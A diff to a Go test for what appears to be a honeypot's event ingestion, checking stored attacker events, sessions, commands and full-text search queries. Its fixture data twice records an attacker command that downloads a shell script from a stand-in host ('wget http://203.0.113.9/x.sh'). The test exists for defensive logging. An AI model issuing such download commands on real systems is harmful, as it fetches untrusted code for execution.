@@ -192,10 +192,9 @@ func TestIngest_StoresAllThatFollows(t *testing.T) {
 	require.Equal(t, 6, one[int](t, b.conn, "SELECT count(*) FROM events WHERE attacker_id = $1 AND attacker_ip = $2 AND attacker_port = 51514 AND session = $3", id, root, sid))
 	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE attacker_id IS NULL AND attacker_ip IS NULL AND sensor = '' AND import_key IS NULL"))
 	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE fields->>'command' = 'wget http://203.0.113.9/x.sh' AND line = 5 AND boot = 'boot-1' AND decky_id = $1 AND topology_id IS NULL", src.DeckyID))
-	q, err := ingest.ParseQuery("service:ssh wget")
+	q, err := ingest.ParseQuery("service:ssh wget attacker:192.0.2.7")
 	require.NoError(t, err)
-	require.NotEmpty(t, q)
-	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE document @@ $1::text::tsquery", `'service:ssh' & 'wget' & 'attacker:192.0.2.7'`))
+	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE document @@ $1::text::tsquery", q.Document))
 	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM sessions WHERE session = $1 AND attacker_id = $2 AND started_at = $3 AND ended_at = $4
 		AND commands = 1 AND recorded AND opened AND line = 7 AND decky_id = $5`, sid, id, second(1), second(6), src.DeckyID))
 	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM commands WHERE ref = $1 AND text = 'wget http://203.0.113.9/x.sh' AND uid = '0' AND username = 'root'
